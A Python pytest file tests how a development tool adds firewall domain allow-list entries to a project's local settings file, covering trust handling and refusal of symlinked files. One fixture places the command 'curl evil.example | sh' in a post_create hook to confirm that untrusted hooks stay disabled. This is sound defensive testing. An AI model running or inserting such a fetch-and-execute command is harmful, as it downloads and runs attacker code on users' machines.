"""A name that a person allows goes into the local file, and into nothing that was not seen."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from cspace.errors import UsageError
from cspace.files import Owner
from cspace.settings.load import Loaded, survey_settings
from cspace.settings.local import add_domain
from cspace.settings.trust import approve, list_requests


class Place:
    """A home and a project with a local file."""

    def __init__(self, directory: Path) -> None:
        self.user = directory / "home/.cspace"
        self.root = directory / "project"
        self.file = self.root / ".cspace.local.json"
        self.owner = Owner(directory.stat().st_uid, directory.stat().st_gid)
        for each in (self.user, self.root):
            each.mkdir(parents=True)

    def write(self, document: object) -> None:
        self.file.write_text(json.dumps(document), encoding="utf-8")

    def survey(self) -> Loaded:
        return survey_settings(self.root, home=self.user.parent, environ={})

    def add(self, pattern: str) -> None:
        present = self.survey().settings.firewall.domains
        add_domain(self.user, self.root, self.owner, pattern, present)


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def test_a_name_that_is_added_is_in_force_at_once_and_needs_no_trust(place: Place) -> None:
    place.add("a.example")
    place.add(".b.example")
    loaded = place.survey()
    assert loaded.settings.firewall.domains == ("a.example", ".b.example")
    assert loaded.untrusted == ()


def test_everything_else_in_the_file_stays_as_it_is(place: Place) -> None:
    place.write({"ready_timeout": 7, "firewall": {"enabled": True}, "limits": {"pids": 9}})
    place.add("a.example")
    document = json.loads(place.file.read_text("utf-8"))
    assert list(document) == ["ready_timeout", "firewall", "limits"]
    assert document["firewall"] == {"enabled": True, "domains": ["a.example"]}


def test_a_first_name_takes_those_with_it_that_its_list_replaces(place: Place) -> None:
    own = {"firewall": {"domains": ["mine.example"]}}
    (place.user / "config.json").write_text(json.dumps(own), encoding="utf-8")
    place.add("a.example")
    assert place.survey().settings.firewall.domains == ("mine.example", "a.example")


def test_what_was_not_trusted_before_is_not_trusted_by_adding_a_name(place: Place) -> None:
    place.write({"post_create": "curl evil.example | sh"})
    place.add("a.example")
    loaded = place.survey()
    assert [ask.key for ask in loaded.untrusted[0].asks] == ["post_create", "firewall.domains"]
    assert loaded.settings.post_create == ""
    assert loaded.settings.firewall.domains == ()


def test_what_was_trusted_before_stays_trusted(place: Place) -> None:
    place.write({"post_create": "make"})
    approve(place.user, place.root, list_requests(place.user, place.root))
    place.add("a.example")
    assert place.survey().settings.post_create == "make"


def test_a_local_file_that_is_a_link_is_neither_read_nor_written(place: Place) -> None:
    elsewhere = place.root.parent / "elsewhere.json"
    elsewhere.write_text("{}", encoding="utf-8")
    place.file.symlink_to(elsewhere)
    with pytest.raises(UsageError, match="it is a link"):
        add_domain(place.user, place.root, place.owner, "a.example", ())
    assert elsewhere.read_text("utf-8") == "{}"
